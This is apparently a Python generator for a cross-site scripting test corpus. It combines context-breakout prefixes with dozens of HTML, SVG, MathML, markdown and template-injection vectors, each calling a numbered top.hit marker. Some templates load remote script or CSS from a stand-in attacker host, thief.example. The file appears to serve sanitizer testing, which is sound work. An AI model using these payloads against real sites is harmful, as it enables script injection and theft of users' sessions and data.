"""Five hundred ways to make a page run what somebody typed. Each says its number to `top.hit` when it runs."""

from itertools import count

OUT_OF = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "`")
WAYS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT >",
    "<script/x>{run}</script>",
    "<script src=//thief.example/{n}.js></script>",
    "<img src=x onerror={run}>",
    "<img/src='x'/onerror={run}>",
    '<img src="x`" onerror="{run}">',
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}//",
    "<svg><script>{run}</script></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={run}>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<base href=javascript:{run}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=//thief.example/{n}.css>",
    "<style>@import '//thief.example/{n}.css'</style>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<a href=javascript:{run}>x</a>",
    "<a href='jav&#x09;ascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    " onmouseover={run} autofocus onfocus={run} x=",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<template><script>{run}</script></template>",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "![x](javascript:{run})",
    "[x](data:text/html,<script>{run}</script>)",
    '[x](https://x.example/"onmouseover={run})',
    "<https://x.example/'onmouseover={run}>",
    "https://x.example/\"onmouseover={run}",
    "{{constructor.constructor('{run}')()}}",
)  # fmt: skip


def made():
    numbers = count(1)
    for out in OUT_OF:
        for way in WAYS:
            n = next(numbers)
            yield out + way.replace("{run}", f"top.hit({n})").replace("{n}", str(n))


ALL = list(made())


def that_fit(letters, first):
    """Some of them in no more than so many letters, beginning with the one of this number."""
    found, number = "", first
    while len(found) + len(ALL[number % len(ALL)]) < letters:
        found += ALL[number % len(ALL)] + " "
        number += 1
    return found, number
